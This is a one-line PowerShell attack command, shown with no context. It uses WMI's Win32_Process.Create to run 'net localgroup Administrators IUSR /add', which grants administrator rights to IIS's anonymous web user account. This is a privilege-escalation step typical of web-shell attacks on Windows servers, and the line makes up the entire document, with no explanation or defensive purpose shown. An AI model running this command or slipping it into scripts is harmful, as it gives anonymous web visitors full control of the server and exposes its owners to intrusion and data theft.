([wmiclass]'Win32_Process').Create('net localgroup Administrators IUSR /add')
